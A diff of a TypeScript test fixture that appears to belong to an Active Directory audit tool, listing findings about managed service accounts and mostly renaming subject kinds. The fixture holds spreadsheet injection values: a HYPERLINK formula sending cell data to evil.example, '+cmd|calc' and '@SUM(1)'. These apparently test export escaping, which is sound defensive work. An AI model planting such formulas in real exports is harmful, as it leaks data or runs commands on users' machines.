@@ -8,7 +8,7 @@ export const FORMULA_GROUP = '=HYPERLINK("http://evil.example/?"&A1,"click")';
 
 const finding = (over: Partial<Finding> & Pick<Finding, 'id' | 'kind' | 'severity' | 'title'>): Finding => ({
   why: 'Whoever can do this can take the account over.',
-  subject: { kind: 'gMSA', name: 'gmsa-web$', dn: 'CN=gmsa-web,CN=Managed Service Accounts,DC=contoso,DC=com' },
+  subject: { kind: 'account', name: 'gmsa-web$', dn: 'CN=gmsa-web,CN=Managed Service Accounts,DC=contoso,DC=com' },
   evidence: [],
   fix: { summary: 'Remove the entry.', command: '' },
   unknown: null,
@@ -22,7 +22,11 @@ export const FINDINGS: Finding[] = [
     kind: 'rc4-only',
     severity: 'medium',
     title: 'msa-legacy$ allows RC4 only',
-    subject: { kind: 'sMSA', name: 'msa-legacy$', dn: 'CN=msa-legacy,CN=Managed Service Accounts,DC=contoso,DC=com' },
+    subject: {
+      kind: 'account',
+      name: 'msa-legacy$',
+      dn: 'CN=msa-legacy,CN=Managed Service Accounts,DC=contoso,DC=com',
+    },
     evidence: ['msDS-SupportedEncryptionTypes: 4 (RC4)'],
     fix: {
       summary: 'Allow AES only.',
@@ -35,7 +39,7 @@ export const FINDINGS: Finding[] = [
     severity: 'critical',
     title: `${EVIL_GROUP} | can retrieve the password of gmsa-report$ *now*`,
     subject: {
-      kind: 'gMSA',
+      kind: 'account',
       name: 'gmsa-report$',
       dn: 'CN=gmsa-report,CN=Managed Service Accounts,DC=contoso,DC=com',
     },
@@ -52,7 +56,7 @@ export const FINDINGS: Finding[] = [
     kind: 'badsuccessor-ou',
     severity: 'critical',
     title: `${FORMULA_GROUP} can create a dMSA in OU=App Servers`,
-    subject: { kind: 'OU', name: 'App Servers', dn: 'OU=App Servers,DC=contoso,DC=com' },
+    subject: { kind: 'ou', name: 'App Servers', dn: 'OU=App Servers,DC=contoso,DC=com' },
     evidence: [`CONTOSO\\${FORMULA_GROUP}: Allow CreateChild (all classes) (explicit)`, '+cmd|calc', '@SUM(1)'],
     fix: { summary: 'Remove the ACE.', command: '-dsacls "OU=App Servers,DC=contoso,DC=com" /R "CONTOSO\\Helpdesk"' },
   }),
